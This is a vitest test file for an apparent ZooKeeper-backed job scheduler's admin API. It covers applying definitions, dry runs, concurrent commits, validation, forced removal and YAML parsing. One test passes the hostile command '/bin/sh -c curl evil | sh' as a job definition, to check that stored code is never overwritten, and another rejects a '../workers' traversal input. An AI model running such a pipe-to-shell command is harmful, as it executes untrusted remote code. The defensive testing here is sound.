import { LEDGER_PARTS, ledgerPartOf } from '../../src/model/member-ledger.js';
import { readLedgerPartNode } from '../../src/membership/read-ledger-node.js';
import { afterEach, describe, expect, it } from 'vitest';
import { JobAdmin, diffDefinitions } from '../../src/api/job-admin.js';
import { FleetReader } from '../../src/api/fleet-reader.js';
import { parseJobFile } from '../../src/api/job-file.js';
import { decodeJob } from '../../src/model/job-record.js';
import { waitFor } from '../support/wait-for.js';
import { def, TestFleet } from './fleet-fixture.js';

// Far enough never to fire in a test, near enough for a timer (Node timers overflow past 24.8 days).
const DAILY = '0 0 0 * * *';

describe('JobAdmin', () => {
  let fleet: TestFleet | undefined;
  afterEach(async () => {
    await fleet?.close();
    fleet = undefined;
  });

  it('apply creates, updates (naming the changed keys) and leaves alone; a dry run writes nothing', async () => {
    fleet = new TestFleet('admin-apply');
    const zk = await fleet.zk();
    const p = fleet.paths;
    const admin = new JobAdmin(zk, p);

    const dry = await admin.apply([def('a', { cron: DAILY }), def('b', { cron: DAILY, shards: 2 })], { dryRun: true });
    expect(dry).toMatchObject({ dryRun: true, written: false, jobs: [{ name: 'a', action: 'created' }, { name: 'b', action: 'created' }] });
    expect(await zk.exists(p.root)).toBeNull(); // not even the namespace

    const created = await admin.apply([def('a', { cron: DAILY }), def('b', { cron: DAILY, shards: 2 })]);
    expect(created).toMatchObject({ written: true, jobs: [{ action: 'created' }, { action: 'created' }] });
    expect((await zk.getChildren(p.items('a'))).sort()).toEqual(['0', '1', '2', '3']);
    expect(decodeJob((await zk.getData(p.job('b'))).data)).toEqual(def('b', { cron: DAILY, shards: 2 }));

    const again = await admin.apply([def('a', { cron: DAILY }), def('b', { cron: DAILY, shards: 2 })]);
    expect(again).toMatchObject({ written: false, jobs: [{ action: 'unchanged' }, { action: 'unchanged' }] });

    const changedDry = await admin.apply([def('a', { cron: '0 0 0 1 2 *', shards: 6 }), def('b', { cron: DAILY, shards: 2 })], { dryRun: true });
    expect(changedDry.jobs[0]).toEqual({
      name: 'a', action: 'updated', changed: ['cron', 'shards'], baseVersion: 0,
      changes: { cron: { from: DAILY, to: '0 0 0 1 2 *' }, shards: { from: 4, to: 6 } },
    });
    expect((await zk.getData(p.job('a'))).stat.version).toBe(0);

    const updated = await admin.apply([def('a', { cron: '0 0 0 1 2 *', shards: 6 }), def('b', { cron: DAILY, shards: 2 })]);
    expect(updated.jobs.map((j) => j.action)).toEqual(['updated', 'unchanged']);
    expect((await zk.getData(p.job('a'))).stat.version).toBe(1);
    expect((await zk.getChildren(p.items('a'))).length).toBe(6);
  });

  it('apply never changes code: a stored job keeps its handler/command, and the difference is reported', async () => {
    fleet = new TestFleet('admin-code');
    const zk = await fleet.zk();
    const p = fleet.paths;
    const admin = new JobAdmin(zk, p);
    const stored = def('a', { cron: DAILY });
    await admin.apply([stored]);

    const foreign = { ...def('a', { cron: '0 0 0 1 2 *' }), handler: undefined, command: ['/bin/sh', '-c', 'curl evil | sh'] };
    const result = await admin.apply([foreign]);
    expect(result.jobs[0]).toMatchObject({
      action: 'updated', changed: ['cron'],
      codeKept: { stored: `handler ${stored.handler!}`, file: 'command ["/bin/sh","-c","curl evil | sh"]' },
    });
    const now = decodeJob((await zk.getData(p.job('a'))).data)!;
    expect(now.cron).toBe('0 0 0 1 2 *');
    expect(now.handler).toBe(stored.handler);
    expect(now.command).toBeUndefined();

    // Only the code differs: nothing to write.
    expect(await admin.apply([{ ...foreign, cron: '0 0 0 1 2 *' }])).toMatchObject({ written: false, jobs: [{ action: 'unchanged', codeKept: { stored: `handler ${stored.handler!}` } }] });

    // A stored definition that does not decode is replaced whole, and says why.
    await zk.setData(p.job('a'), Buffer.from('{"name":"a","shards":1000000000}'));
    const repaired = await admin.apply([stored]);
    expect(repaired.jobs[0]).toMatchObject({ action: 'updated', storedProblem: expect.stringMatching(/shards must be an integer from 1 to 10000/) });
    expect(decodeJob((await zk.getData(p.job('a'))).data)).toEqual(stored);
  });

  it('two operators racing on the same version: the second commit fails with REQUEST_CONFLICT and changes nothing', async () => {
    fleet = new TestFleet('admin-race');
    const zk = await fleet.zk();
    const admin = new JobAdmin(zk, fleet.paths);
    await admin.apply([def('a', { cron: DAILY })]);
    // Race on version 1: node-zookeeper-client 1.1.3 turns an expected version 0 inside a multi
    // into -1 ("any version"): see the report; ZkClient.commit must work around it.
    await admin.apply([def('a', { cron: '0 0 0 1 4 *' })]);

    const first = await admin.plan([def('a', { cron: '0 0 0 1 2 *' })]);
    const second = await admin.plan([def('a', { cron: '0 0 0 1 3 *' }), def('c', { cron: DAILY })]);
    await admin.commit(first);
    await expect(admin.commit(second)).rejects.toMatchObject({ code: 'REQUEST_CONFLICT', message: expect.stringContaining('changed by someone else') });
    expect(decodeJob((await zk.getData(fleet.paths.job('a'))).data)!.cron).toBe('0 0 0 1 2 *');
    expect(await zk.exists(fleet.paths.job('c'))).toBeNull(); // nothing of the rejected apply

    // Two creates of the same new job: the second finds it created.
    const x1 = await admin.plan([def('x', { cron: DAILY })]);
    const x2 = await admin.plan([def('x', { cron: DAILY, shards: 2 })]);
    await admin.commit(x1);
    await expect(admin.commit(x2)).rejects.toMatchObject({ code: 'REQUEST_CONFLICT', message: expect.stringContaining('created by someone else') });
  });

  it('invalid definitions are refused with every problem, before anything is read or written', async () => {
    fleet = new TestFleet('admin-invalid');
    const zk = await fleet.zk();
    const admin = new JobAdmin(zk, fleet.paths);
    await expect(admin.apply([def('ok'), { ...def('bad'), cron: 'nope', shards: 0 }])).rejects.toMatchObject({ code: 'CONFIG_INVALID' });
    await expect(admin.apply([def('dup'), def('dup')])).rejects.toMatchObject({ code: 'CONFIG_INVALID', message: expect.stringContaining('duplicate') });
    await expect(admin.apply([])).rejects.toMatchObject({ code: 'REQUEST_INVALID' });
    expect(await zk.exists(fleet.paths.root)).toBeNull();
  });

  it('remove refuses while items run, removes with force, and names unknown jobs', async () => {
    fleet = new TestFleet('admin-remove');
    const long = def('long', { shards: 2, jobParameter: 'sleepMs=20000' });
    await fleet.start('r1', [long]);
    await fleet.owned('long', 2);
    const zk = await fleet.zk();
    const admin = new JobAdmin(zk, fleet.paths);
    const reader = new FleetReader(zk, fleet.paths);
    await waitFor(async () => (await reader.job('long')).items.every((i) => i.running), { timeoutMs: 10_000, message: 'both items running' });

    await expect(admin.remove('long')).rejects.toMatchObject({ code: 'REQUEST_INVALID', message: expect.stringMatching(/2 running items \(0-1 on r1\).*--force/) });
    expect(await zk.exists(fleet.paths.job('long'))).not.toBeNull();
    const dry = await admin.remove('long', { force: true, dryRun: true });
    expect(dry).toMatchObject({ dryRun: true, forced: true, running: [{ item: 0, worker: 'r1' }, { item: 1, worker: 'r1' }] });
    expect(dry.removed).toContain(fleet.paths.item('long', 0));
    expect(await zk.exists(fleet.paths.job('long'))).not.toBeNull();

    const [member] = await zk.getChildren(fleet.paths.ledgers);
    const part = fleet.paths.ledgerPart(member!, ledgerPartOf('long', LEDGER_PARTS));
    const ledgerJobs = async () => {
      const read = (await readLedgerPartNode(zk, part))?.part ?? { ok: true as const, value: new Map() };
      return read.ok ? [...read.value.keys()] : read.error.message;
    };
    expect(await ledgerJobs()).toEqual(['long']); // its runs in flight in r1's ledger
    const removed = await admin.remove('long', { force: true });
    expect(removed).toMatchObject({ job: 'long', forced: true, running: [{ item: 0, worker: 'r1' }, { item: 1, worker: 'r1' }] });
    expect(await ledgerJobs()).toEqual([]); // cleared in the same multi (run protocol v2: the ledger holds the runs)
    expect(removed.removed.at(-1)).toBe(fleet.paths.job('long'));
    expect(await zk.exists(fleet.paths.job('long'))).toBeNull();
    await expect(admin.remove('long')).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(admin.remove('../workers')).rejects.toMatchObject({ code: 'REQUEST_INVALID' });
  });

  it('diffDefinitions ignores key order; parseJobFile accepts a list, a worker config or one job', () => {
    const a = def('a');
    const reordered = Object.fromEntries(Object.entries(a).reverse()) as unknown as typeof a;
    expect(diffDefinitions(a, reordered)).toEqual({});
    expect(Object.keys(diffDefinitions(undefined, a))).toContain('cron');

    const job = 'name: one\ncron: "* * * * * *"\nshards: 2\nhandler: ./x.js\n';
    expect(parseJobFile(job, 'f.yaml').map((d) => d.name)).toEqual(['one']);
    expect(parseJobFile(`- ${job.split('\n').join('\n  ')}`, 'f.yaml')[0]).toMatchObject({ name: 'one', shards: 2, strategy: 'sticky', timeZone: 'UTC' });
    expect(parseJobFile(`zookeeper: { connect: "h:1" }\njobs:\n  - { name: two, cron: "* * * * *", shards: 1, command: [x], overwrite: true }\n`, 'f.yaml').map((d) => d.name)).toEqual(['two']);
    expect(() => parseJobFile('jobs: []\n', 'f.yaml')).toThrow(/no jobs/);
    expect(() => parseJobFile('colour: blue\njobs: []\n', 'f.yaml')).toThrow(/colour/);
    expect(() => parseJobFile('jobs: [\n', 'f.yaml')).toThrow(/YAML syntax error/);
  });
});
